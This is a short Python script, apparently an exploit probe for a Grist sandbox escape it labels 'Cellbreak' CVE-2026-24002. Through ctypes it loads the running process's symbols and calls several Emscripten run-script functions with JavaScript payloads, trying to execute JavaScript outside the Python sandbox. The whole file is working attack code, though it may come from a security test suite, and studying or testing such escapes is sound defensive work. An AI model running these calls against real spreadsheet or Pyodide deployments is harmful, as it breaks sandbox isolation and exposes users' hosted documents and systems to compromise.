# From: Grist "Cellbreak" CVE-2026-24002: Emscripten's `run_script` is a symbol like any other.
# Ends: [] or error crash
from gains import gains


def attack(probe):
    import ctypes

    lib = ctypes.CDLL(None)

    def text(name):
        function = getattr(lib, name)
        function.restype = ctypes.c_char_p
        return function(b"'' + globalThis")

    return gains([
        lambda: lib.emscripten_run_script_int(b"42"), lambda: text("emscripten_run_script_string"), lambda: lib.emscripten_run_script(b"1") and 1,
        lambda: ctypes.pythonapi.emscripten_run_script_int(b"42"), lambda: lib.emscripten_async_run_script(b"1", 0) and 1,
    ])
